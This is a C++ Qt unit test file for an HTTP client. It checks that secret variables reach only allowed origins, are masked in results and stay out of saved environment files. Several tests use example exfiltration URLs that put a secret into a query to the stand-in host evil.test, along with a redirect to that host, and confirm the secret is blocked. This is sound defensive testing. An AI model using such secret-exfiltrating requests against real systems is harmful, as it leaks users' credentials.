// SPDX-License-Identifier: GPL-3.0-or-later
// Secret variables: where they go, where they do not, and what is seen of them.
#include "tests/core/run/run_fakes.h"

#include "core/workspace/opencollection.h"

using namespace kb;
using namespace kbtest;

namespace {

struct SecretBench : Bench {
    explicit SecretBench(const QString& name = QStringLiteral("pass")) : Bench() {
        SecretVariable variable;
        variable.name = name;
        variable.secret.id = QStringLiteral("s1");
        variable.allowedOrigins = {QStringLiteral("https://api.acme.test")};
        input.secretVariables = {{variable, &store, false}};
    }
    void body(const char* text) {
        input.spec.method = QStringLiteral("POST");
        input.spec.body.kind = BodySpec::Kind::Json;
        input.spec.body.text = QString::fromUtf8(text);
    }
};

} // namespace

class TestRunSecrets : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void itIsSentAndNotShown() {
        SecretBench bench;
        bench.body("{\"word\": \"{{pass}}\"}");
        bench.input.spec.url += QStringLiteral("?q={{pass}}");
        bench.input.spec.headers = {{QStringLiteral("X-Word"), QStringLiteral("a {{pass}}"), {}, true}};
        bench.transport.script = {{answer(200, {}, QByteArray("you said ") + Bench::canary)}};
        const RunResult result = bench.run(false);
        QVERIFY2(!result.error, result.error ? qPrintable(result.error->text()) : "");
        const Request& sent = bench.transport.sent.first();
        QVERIFY(sent.body.contains(Bench::canary));
        QVERIFY(sent.url.text().contains(Bench::canary));
        QCOMPARE(*sent.headers.first("X-Word"), QByteArray("a ") + Bench::canary);
        QVERIFY(!holds(everythingIn(result), Bench::canary));
    }

    void aShortOneIsMaskedToo() {
        SecretBench bench;
        bench.record().secret = Secret("p1n!");
        bench.body("{\"word\": \"{{pass}}\"}");
        bench.transport.script = {{answer(200, {}, "p1n!")}};
        const RunResult result = bench.run(false);
        QVERIFY(bench.transport.sent.first().body.contains("p1n!"));
        QVERIFY(!everythingIn(result).contains("p1n!"));
    }

    void itGoesNowhereElse() {
        SecretBench bench;
        bench.input.spec.url = QStringLiteral("https://evil.test/?q={{pass}}");
        const RunResult result = bench.run(false);
        QVERIFY(bench.transport.sent.isEmpty());
        QVERIFY(result.error->what.contains(QLatin1String("pass")));
        QVERIFY(result.error->what.contains(QLatin1String("https://evil.test")));
    }

    void aWiderFileIsNotBelieved() {
        SecretBench bench;
        bench.input.secretVariables.first().variable.allowedOrigins.append(
            QStringLiteral("https://evil.test"));
        bench.input.spec.url = QStringLiteral("https://evil.test/?q={{pass}}");
        QVERIFY(bench.run(false).nothingSent);
        QVERIFY(bench.transport.sent.isEmpty());
    }

    void aRedirectDoesNotCarryIt() {
        SecretBench bench;
        bench.body("{\"word\": \"{{pass}}\"}");
        bench.transport.script = {redirectTo("https://evil.test/", 307), {answer(200)}};
        const RunResult result = bench.run(false);
        QCOMPARE(bench.transport.sent.size(), 1);
        QVERIFY(!result.redirectNote.isEmpty());
    }

    void itIsNoHost() {
        SecretBench bench;
        bench.input.spec.url = QStringLiteral("https://{{pass}}.acme.test/");
        const RunResult result = bench.run(false);
        QVERIFY(bench.transport.sent.isEmpty());
        QVERIFY(!holds(everythingIn(result), Bench::canary));
    }

    void whatIsMissingIsSaid() {
        SecretBench bench;
        bench.store.records.clear();
        bench.input.spec.url += QStringLiteral("?q={{pass}}");
        const RunResult result = bench.run(false);
        QCOMPARE(result.error->code, ErrorCode::SecretMissing);
        QVERIFY(result.error->what.contains(QLatin1String("pass")));
    }

    void onlyWhatIsNamedIsRead() {
        SecretBench bench;
        QVERIFY(!bench.run(false).error);
        QVERIFY(bench.store.reads.isEmpty());
    }

    void theFileHasItsNameAlone() {
        const QByteArray before = "name: Live\nvariables:\n  - name: a\n    value: b\n  - name: pass # why\n"
                                  "    secret: true\n";
        const QString path = QStringLiteral("environments/Live.yml");
        const auto read = [&](const QByteArray& text) {
            return opencollection::read(
                {{opencollection::rootFileName(), "opencollection: 1.0.0\n"}, {path, text}});
        };
        const Result<Workspace> first = read(before);
        QVERIFY(first);
        Environment live = first->environments.first();
        QCOMPARE(live.secrets.size(), 1);
        QCOMPARE(*opencollection::writeEnvironment(live, before), before);
        live.secrets.first().secret.id = QStringLiteral("s9");
        live.secrets.first().allowedOrigins = {QStringLiteral("https://api.acme.test")};
        live.secrets.append(
            {QStringLiteral("pin"), {QStringLiteral("s10")}, {}, SecretStorage::Keychain, true});
        const QByteArray after = *opencollection::writeEnvironment(live, before);
        QVERIFY(after.contains("pass # why"));
        const Result<Workspace> second = read(after);
        QVERIFY(second);
        QCOMPARE(second->environments.first(), live);
        QVERIFY(!variablesOf(*second, QStringLiteral("Live")).contains(QStringLiteral("pass")));
        QCOMPARE(secretVariablesOf(*second, QStringLiteral("Live")).size(), 2);
    }
};

QTEST_GUILESS_MAIN(TestRunSecrets)
#include "test_run_secrets.moc"
